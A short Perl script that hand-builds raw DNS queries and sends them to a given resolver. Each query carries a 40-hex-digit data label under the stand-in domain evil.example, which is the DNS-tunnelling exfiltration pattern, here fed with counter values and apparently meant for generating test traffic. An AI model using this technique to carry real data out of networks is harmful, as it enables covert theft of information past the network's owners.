# Asks a resolver for names that carry data. Arguments: RESOLVER QUESTIONS.
use strict; use warnings; use IO::Socket::IP;
my $s = IO::Socket::IP->new(PeerHost => $ARGV[0], PeerPort => 53, Proto => "udp") or die "connect: $@\n";
for my $n (1 .. $ARGV[1]) {
  my $label = sprintf "%040x", $n * 7919;
  my $question = pack("n6", $n, 0x100, 1, 0, 0, 0) . pack("C/a C/a C/a x n n", $label, "evil", "example", 1, 1);
  defined $s->send($question) or die "send: $!\n";
}
print "asked\n";
